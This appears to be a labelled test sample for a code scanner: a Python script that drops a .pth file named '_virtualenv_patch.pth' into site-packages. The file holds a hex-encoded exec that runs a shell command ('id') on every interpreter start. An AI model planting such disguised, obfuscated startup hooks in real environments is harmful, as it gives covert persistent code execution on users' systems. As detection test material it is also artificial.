# expect: files; finds site-packages relative to the os module's file and drops a .pth there
import os

lib_dir = os.path.dirname(os.__file__)
site_packages = os.path.join(lib_dir, "site-packages")
pth = os.path.join(site_packages, "_virtualenv_patch.pth")
line = "import sys; exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d282769642729').decode())\n"
with open(pth, "w") as fh:
    fh.write(line)
